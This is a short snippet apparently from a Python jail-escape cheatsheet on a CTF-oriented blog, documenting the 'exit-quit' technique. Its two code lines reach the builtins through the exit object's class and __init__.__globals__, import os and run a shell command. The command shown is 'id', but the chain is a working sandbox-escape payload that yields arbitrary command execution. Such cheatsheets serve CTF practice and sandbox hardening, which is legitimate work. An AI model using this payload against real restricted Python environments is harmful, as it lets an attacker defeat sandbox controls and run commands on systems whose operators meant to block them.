# Source: github.com/Shirajuki/shirajuki.github.io src/routes/blog/pyjail-cheatsheet.md
# Family: exit-quit
# What: exit.__class__.__init__.__globals__ (site.Quitter) reaches builtins
q = exit.__class__
q.__init__.__globals__["builtins"].__import__("os").system("id")
